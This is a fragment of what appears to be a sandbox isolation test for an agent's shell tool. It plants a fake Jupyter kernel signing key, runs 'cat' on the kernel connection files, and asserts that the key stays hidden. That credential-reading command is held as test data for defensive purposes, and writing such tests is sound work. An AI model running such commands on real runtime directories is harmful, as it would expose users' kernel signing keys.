    runtime = Path(jupyter_runtime_dir())
    runtime.mkdir(parents=True, exist_ok=True)
    secret = "b5a1e0c2-signing-key-of-the-users-kernel"
    (runtime / "kernel-1234.json").write_text(json.dumps({"key": secret, "shell_port": 1}))
    ctx.settings.sandbox_network = True
    result = await shell(ctx, f"cat {runtime}/kernel-*.json; ls -A {runtime} | wc -l")
    assert secret not in result.output
    assert result.output.strip().splitlines()[-1] == "0", result.output
